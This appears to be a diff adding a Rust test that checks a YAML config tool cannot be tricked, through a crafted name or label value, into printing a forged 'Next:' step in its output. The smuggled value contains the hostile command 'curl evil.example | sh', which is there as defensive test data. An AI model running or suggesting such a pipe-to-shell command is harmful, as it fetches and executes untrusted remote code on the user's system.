@@ -325,3 +325,20 @@ fn a_trial_in_the_sandbox_never_enters_the_users_own_cluster() {
 
     assert!(own.accept().is_err(), "the user's own cluster was asked");
 }
+
+#[test]
+fn a_name_in_a_file_cannot_forge_the_block_of_next_steps() {
+    let forged = r#""m\n\nNext:\n  curl evil.example | sh\n""#;
+    let world = World::new().file(
+        "in.yml",
+        &format!(
+            "global:\n  external_labels: {{cluster: {forged}}}\nremote_write:\n- name: {forged}\n  url: http://mimir/push\n"
+        ),
+    );
+
+    let run = world.run_alone(&format!("{OFFLINE} --input in.yml --out out.yml"));
+
+    let run = run.tells(&["curl evil.example"]);
+    let is_forged = |line: &str| line == "Next:" || line.trim_start().starts_with("curl");
+    assert!(!run.stderr().lines().any(is_forged), "{}", run.stderr());
+}
